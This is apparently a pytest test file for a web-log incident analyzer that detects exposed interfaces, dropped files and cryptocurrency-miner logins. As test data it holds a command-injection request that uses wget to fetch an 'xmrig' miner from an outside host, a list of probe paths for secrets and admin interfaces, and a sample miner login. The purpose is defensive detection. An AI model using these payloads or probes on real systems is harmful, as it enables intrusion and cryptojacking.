"""What an answer proves, what a visitor's request does not, and how logins are counted over all of them."""

from __future__ import annotations

import json
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import pytest
from click.testing import CliRunner

from kanaria.app.commands.main import cli
from kanaria.core.limits import Limits
from kanaria.core.types import Record
from kanaria.incidents.answers import found_at
from kanaria.incidents.rhythm import Rhythm, Rhythms

BEGIN = datetime(2026, 11, 10, 10, tzinfo=UTC)


def asked(method: str, url: str, status: int, size: int | None = 812) -> Record:
    values = {"method": method, "url": url, "status": status, "bytes_out": size}
    return Record(event_id=1, table="http", source="a.log", line=1, time=BEGIN, device=None, remote="203.0.113.7",
                  quote="", values={name: value for name, value in values.items() if value is not None})  # fmt: skip


@pytest.mark.parametrize(
    ("method", "url", "status"),
    [
        ("POST", "/_ignition/execute-solution", 500), ("GET", "/wd/hub/status", 200), ("POST", "/wd/hub/session", 200),
        ("GET", "/containers/json", 200), ("GET", "/v1.24/containers/json", 200), ("POST", "/v1.24/containers/create", 201),
        ("POST", "/ws/v1/cluster/apps/new-application", 200), ("POST", "/ws/v1/cluster/apps", 202), ("GET", "/1/summary", 200),
        ("GET", "/2/config", 200), ("GET", "/.env", 200), ("GET", "/app/.env.local", 200), ("GET", "/.git/config", 200),
        ("POST", "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", 200), ("GET", "/api/v1/pods?limit=5", 200),
        ("GET", "/actuator/env", 200), ("POST", "/api/jobs/", 200), ("GET", "/api/terminals", 200),
    ],
)  # fmt: skip
def test_the_answer_of_the_interface_itself_proves_that_it_is_there(method: str, url: str, status: int) -> None:
    words = found_at(asked(method, url, status))
    assert words is not None
    assert str(status) in words.en
    assert str(status) in words.ja


@pytest.mark.parametrize(
    ("method", "url", "status"),
    [
        ("POST", "/_ignition/execute-solution", 404), ("GET", "/wd/hub/status", 403), ("GET", "/containers/create", 200),
        ("GET", "/1/summary", 401), ("GET", "/.env", 301), ("GET", "/.environment", 200), ("GET", "/", 200),
        ("GET", "/blog/1/summary-of-the-year", 200), ("POST", "/ws/v1/cluster/apps", 401), ("GET", "/run", 200),
    ],
)  # fmt: skip
def test_other_answers_prove_nothing(method: str, url: str, status: int) -> None:
    assert found_at(asked(method, url, status)) is None


def test_an_empty_page_is_no_file_with_passwords() -> None:
    assert found_at(asked("GET", "/.env", 200, 0)) is None


def analysed(folder: Path, lines: list[str]) -> list[dict[str, Any]]:
    log = folder / "a.log"
    log.write_text("\n".join(lines) + "\n")
    result = CliRunner().invoke(cli, ["analyze", str(log), "--format", "json"])
    incidents: list[dict[str, Any]] = json.loads(result.stdout)["incidents"]
    return incidents


def line(client: str, minute: int, request: str, answer: str, second: int = 0) -> str:
    time = BEGIN + timedelta(minutes=minute, seconds=second)
    return f'{client} - - [{time:%d/%b/%Y:%H:%M:%S} +0000] "{request}" {answer} "-" "Mozilla/5.0"'


ATTACK = "GET /a.cgi?c=%3Bwget%20http://203.0.113.66/xmrig%20-O%20{} HTTP/1.1"


def test_visitors_who_ask_for_the_icon_are_no_follow_up(tmp_path: Path) -> None:
    visitors = [line(f"198.51.100.{n}", n, "GET /favicon.ico HTTP/1.1", "200 1150") for n in range(1, 30)]
    found = analysed(tmp_path, [line("203.0.113.9", 0, ATTACK.format("/tmp/favicon.ico"), "404 0"), *visitors])
    assert [incident["outcome"]["value"] for incident in found] == ["no_sign_of_success"]


@pytest.mark.parametrize("name", ["shell9.php", "images/x9911.php"])
def test_a_new_file_that_one_stranger_asks_for_and_gets_is_a_follow_up(tmp_path: Path, name: str) -> None:
    other = [line(f"198.51.100.{n}", n, "GET / HTTP/1.1", "200 4321") for n in range(1, 30)]
    later = line("198.51.100.77", 30, f"GET /{name} HTTP/1.1", "200 17")
    found = analysed(tmp_path, [line("203.0.113.9", 0, ATTACK.format(name), "200 4321"), *other, later])
    assert "followup_uses_dropped_file" in {item["kind"] for incident in found for item in incident["evidence"]}


def test_a_site_that_answers_everything_with_its_page_hands_out_no_miner(tmp_path: Path) -> None:
    pages = [line(f"198.51.100.{n}", n, f"GET /p{n} HTTP/1.1", "200 4321") for n in range(1, 30)]
    found = analysed(tmp_path, [*pages, line("203.0.113.9", 31, "GET /xmrig HTTP/1.1", "200 4321")])
    assert {incident["severity"] for incident in found} <= {"informational"}


@pytest.mark.parametrize("every", [5, 11, 15])
def test_a_miner_that_logs_in_for_an_hour_is_a_miner_however_often(tmp_path: Path, every: int) -> None:
    wallet = "44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A"
    params = {"login": wallet, "pass": "rig7", "agent": "XMRig/6.21.0"}
    login = json.dumps({"id": 1, "jsonrpc": "2.0", "method": "login", "params": params}).replace('"', '\\"')
    found = analysed(
        tmp_path, [line("198.51.100.201", 0, login, "400 484", second) for second in range(0, 3600, every)]
    )
    assert [incident["hypotheses"][0]["name"] for incident in found] == ["misdirected_miner"]
    rhythm = [item for item in found[0]["evidence"] if item["kind"] == "reconnect_rhythm_constant_wallet"]
    assert f"{-(-3600 // every):,} times" in rhythm[0]["because"]["en"]


def test_a_client_of_the_private_network_at_an_interface_is_no_break_in(tmp_path: Path) -> None:
    create = "POST /v1.32/containers/create HTTP/1.1"
    inside = analysed(tmp_path, [line("172.17.6.1", 0, create, "201 281")])
    outside = analysed(tmp_path, [line("198.51.100.7", 0, create, "201 281")])
    assert {incident["severity"] for incident in inside} == {"informational"}
    assert {incident["severity"] for incident in outside} <= {"high", "medium"}
    assert {incident["outcome"]["value"] for incident in outside} == {"possible"}


def test_a_rhythm_is_counted_in_constant_memory() -> None:
    times = [BEGIN + timedelta(seconds=5 * n) for n in range(700)]
    rhythm = Rhythm.of(times)
    assert rhythm == Rhythm(logins=700, span=3495.0, gap=5.0, deviation=0.0)
    assert Rhythm.of(times[:1]) is None
    many = Rhythms()
    for second in (0, 5, 14):
        many.add("198.51.100.7", "again and again", "", BEGIN + timedelta(seconds=second))
    for n in range(Limits.identities + 5):
        many.add("198.51.100.7", str(n), "", BEGIN)
        many.add("198.51.100.7", str(n), "", BEGIN + timedelta(seconds=9))
    assert many.of("198.51.100.7", "again and again", "") is not None
    assert many.of("198.51.100.7", "0", "") is None
    assert many.of("198.51.100.7", str(Limits.identities), "") is not None
    assert (
        sum(many.of("198.51.100.7", str(n), "") is not None for n in range(Limits.identities + 5)) < Limits.identities
    )
